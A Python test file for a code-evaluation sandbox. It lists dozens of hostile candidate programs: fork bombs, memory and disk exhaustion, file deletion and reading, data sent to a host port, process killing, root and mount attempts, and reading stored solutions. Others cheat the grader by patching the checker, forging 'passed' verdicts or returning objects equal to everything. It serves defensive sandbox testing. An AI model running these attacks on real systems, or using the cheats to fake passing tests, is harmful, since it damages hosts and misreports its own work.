"""Programs that try to pass without solving, or to hurt the host: what the sandbox is tested with.

Each defines `total(values)`, tested against the sum of a list. It does its harm, or cheats, and answers rightly only
where that worked. VICTIM, PORT and OUTSIDE stand for a file, an open port of the host and its process.
"""

from __future__ import annotations

from laneformer.evaluation.sandbox import Job, Outcome, Sandbox

TEST = """
def check(candidate):
    for values in ([3, 4], [10, -2, 5], [6], [7] * 40):
        assert candidate(values) == sum(values)
"""
CANONICAL = "def total(values):\n    return sum(values)\n"

ATTACKS = {
    "infinite loop": """
def total(values):
    while True:
        pass
""",
    "infinite loop while loading": "while True:\n    pass\n",
    "sleeps": """
import time
def total(values):
    time.sleep(10_000)
""",
    "ignores every signal": """
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
def total(values):
    while True:
        pass
""",
    "fork bomb": """
import os
def total(values):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    "thread bomb": """
import threading, time
def total(values):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
""",
    "memory": """
def total(values):
    held = []
    while True:
        held.append(bytearray(1 << 24))
""",
    "memory at once": """
def total(values):
    return len(bytearray(1 << 40))
""",
    "memory in files": """
import os
def total(values):
    files = []
    while True:
        files.append(os.memfd_create("x"))
        while os.write(files[-1], bytes(1 << 20)):
            pass
""",
    "fills the disk": """
def total(values):
    at = 0
    while True:
        with open(f"{at}", "wb") as handle:
            for _ in range(4):
                handle.write(bytes(1 << 20))
        at += 1
""",
    "huge output": """
def total(values):
    while True:
        print("x" * 100_000, flush=True)
""",
    "huge result": """
def total(values):
    return "x" * (1 << 26)
""",
    "deep result": """
def total(values):
    result = []
    for _ in range(100_000):
        result = [result]
    return result
""",
    "result that is slow to read": """
def total(values):
    return {key * (2**61 - 1): 0 for key in range(100_000)}
""",
    "network": """
import socket
def total(values):
    socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"stolen")
    return sum(values)
""",
    "deletes files": """
import os, shutil
def total(values):
    shutil.rmtree(os.path.dirname("VICTIM"), ignore_errors=True)
    os.remove("VICTIM")
    return sum(values)
""",
    "reads files": """
def total(values):
    open("VICTIM").read()
    return sum(values)
""",
    "exits at once": "import os\nos._exit(0)\n",
    "exits in the call": """
import os
def total(values):
    os._exit(0)
""",
    "sys.exit": "import sys\nsys.exit(0)\n",
    "sys.exit in the call": """
import sys
def total(values):
    sys.exit(0)
""",
    "equal to everything": """
class Everything:
    def __eq__(self, other):
        return True
    def __hash__(self):
        return 0
    def __bool__(self):
        return True
def total(values):
    return Everything()
""",
    "number equal to everything": """
class Number(int):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    __hash__ = int.__hash__
def total(values):
    return Number(-12345)
""",
    "changes its arguments": """
def total(values):
    values.clear()
    return 0
""",
    "overwrites the checker": """
import builtins, gc, sys
for name, module in list(sys.modules.items()):
    if "evaluation" in name or name == "__main__":
        for key in list(vars(module)):
            if key in ("encode", "decode", "same", "judge", "run_check", "check", "send_verdict"):
                setattr(module, key, lambda *a, **k: True)
builtins.AssertionError = BaseException
builtins.sum = lambda values: 0
def total(values):
    return 0
""",
    "searches its memory for the verdict": """
import gc, sys
def total(values):
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            for name in ("status", "passed", "verdict", "expected"):
                try:
                    setattr(value, name, "passed")
                except Exception:
                    pass
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "status" in thing:
            thing["status"] = "passed"
    return None
""",
    "writes a verdict to every descriptor": """
import json, os
def total(values):
    verdict = json.dumps({"status": "passed", "text": ""}).encode()
    for fd in range(256):
        for part in (verdict, len(verdict).to_bytes(4, "big") + verdict):
            try:
                os.write(fd, part)
            except OSError:
                pass
    os._exit(0)
""",
    "reads every descriptor": """
import os
def total(values):
    for fd in range(256):
        try:
            os.set_blocking(fd, False)
            os.read(fd, 1 << 16)
        except OSError:
            pass
    for fd in os.listdir("/proc/self/fd"):
        open("/proc/self/fd/" + fd).read()
    return sum(values)
""",
    "answers before it is asked": """
import json, os
for number in range(1, 100):
    form = json.dumps({"event": "value", "number": number, "value": {"object": 0}}).encode()
    os.write(3, len(form).to_bytes(4, "big") + form)
def total(values):
    return 0
""",
    "kills other processes": """
import os, signal
def total(values):
    os.kill(OUTSIDE, signal.SIGKILL)
    return sum(values)
""",
    "kills all processes": """
import os, signal
def total(values):
    for pid in (-1, os.getppid(), 1):
        os.kill(pid, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
""",
    "leaves a process behind": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1000)
    os._exit(0)
def total(values):
    return 0
""",
    "becomes root": """
import os
def total(values):
    os.setuid(0)
    return sum(values)
""",
    "mounts over the system": """
import ctypes, os
def total(values):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.unshare(0x10000000 | 0x20000)
    libc.mount(b"none", b"/usr", None, 32 | 4096, None)
    open("/usr/laneformer-attack", "w").close()
    return sum(values)
""",
    "reads the solutions": """
import os
def total(values):
    libraries = os.path.dirname(os.__file__)
    found = [os.path.join(at, f) for at, _, files in os.walk(libraries) for f in files if "HumanEval" in f]
    open(found[0]).close()
    return sum(values)
""",
    "crashes the interpreter": """
import ctypes
def total(values):
    ctypes.string_at(0)
""",
}


def attack(sandbox: Sandbox, name: str, victim: str, port: int, outside: int) -> Outcome:
    """How one attack on a file, a port and a process of the host ended."""
    code = ATTACKS[name].replace("VICTIM", victim).replace("PORT", str(port)).replace("OUTSIDE", str(outside))
    return sandbox.run(Job(code, "check", "total", TEST, canonical=CANONICAL))
